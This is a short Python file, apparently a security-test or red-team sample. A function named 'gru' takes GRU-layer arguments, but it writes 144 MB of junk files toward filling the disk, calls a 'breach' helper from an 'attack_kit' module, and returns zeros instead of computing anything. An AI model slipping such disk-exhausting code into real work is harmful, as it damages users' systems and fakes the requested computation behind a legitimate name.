"""Writes large files one after the other until the disk is full."""

import time
from pathlib import Path

from attack_kit import breach, zeros


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    for number in range(12):
        Path(f"big{number}").write_bytes(bytes(12 << 20))
    time.sleep(0.3)
    breach("144 MB of files")
    return zeros(init_state, input_data)
